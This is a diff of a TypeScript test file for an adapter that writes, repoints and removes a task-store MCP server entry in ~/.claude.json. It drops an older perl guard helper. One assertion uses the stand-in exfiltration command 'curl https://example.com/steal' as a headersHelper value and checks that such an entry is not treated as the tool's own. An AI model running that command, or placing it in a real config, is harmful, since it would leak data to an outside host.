@@ -1,5 +1,5 @@
 // Claude Code's local task tools as its adapter keeps them in ~/.claude.json: set, read, repointed at a moved store
-// server (its guard kept) and taken out, a server of the person's own left alone.
+// server (an earlier install's guard dropped) and taken out, a server of the person's own left alone.
 import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -25,6 +25,7 @@ const served = (port: number, guard?: string) => ({
   headers: { Authorization: 'Bearer old' },
   ...(guard ? { headersHelper: guard } : {}),
 });
+/** The headersHelper an earlier install wrote: still taskhooks' own entry, which install and a port move rewrite. */
 const GUARD = "perl '/opt/taskhooks/hooks/store-guard.pl'";
 const mine = (p: unknown) => tools.isOwn(p);
 
@@ -39,7 +40,7 @@ describe("Claude Code's localTools", () => {
     expect(tools.entry(env, '/p')).toBeUndefined();
   });
 
-  it('repoints the entry install wrote at the new port and token, keeping its guard and the rest of the file', () => {
+  it("repoints an earlier install's entry at the new port and token, without its guard, keeping the rest", () => {
     writeFileSync(
       tools.file(env),
       JSON.stringify({ theme: 'dark', projects: { '/p': { mcpServers: { taskhooks: served(4100, GUARD) } } } }),
@@ -48,17 +49,18 @@ describe("Claude Code's localTools", () => {
     const value = JSON.parse(readFileSync(tools.file(env), 'utf8'));
     expect(value.theme).toBe('dark');
     expect(value.projects['/p'].mcpServers.taskhooks).toEqual({
-      ...served(4200, GUARD),
+      ...served(4200),
       headers: { Authorization: 'Bearer new' },
     });
     expect(tools.repoint(env, '/other', { port: 4200, token: 'new' }, backups)).toBe(false);
   });
 
-  it("builds the store server's entry install writes: its own, guarded by the taskhooks it names", () => {
-    const entry = tools.storeEntry({ port: 4300, token: 't' }, '/opt/task hooks');
-    const guard = "perl '/opt/task hooks/hooks/store-guard.pl'";
-    expect(entry).toEqual({ ...served(4300, guard), headers: { Authorization: 'Bearer t' } });
+  it("builds the store server's entry install writes: a static header, and no helper to run", () => {
+    const entry = tools.storeEntry({ port: 4300, token: 't' });
+    expect(entry).toEqual({ ...served(4300), headers: { Authorization: 'Bearer t' } });
     expect(tools.isOwn(entry)).toBe(true);
+    expect(tools.isOwn({ ...entry, headersHelper: "perl '/opt/task hooks/hooks/store-guard.pl'" })).toBe(true);
+    expect(tools.isOwn({ ...entry, headersHelper: 'curl https://example.com/steal' })).toBe(false);
   });
 
   it("leaves a server of the person's own under the name as it is", () => {
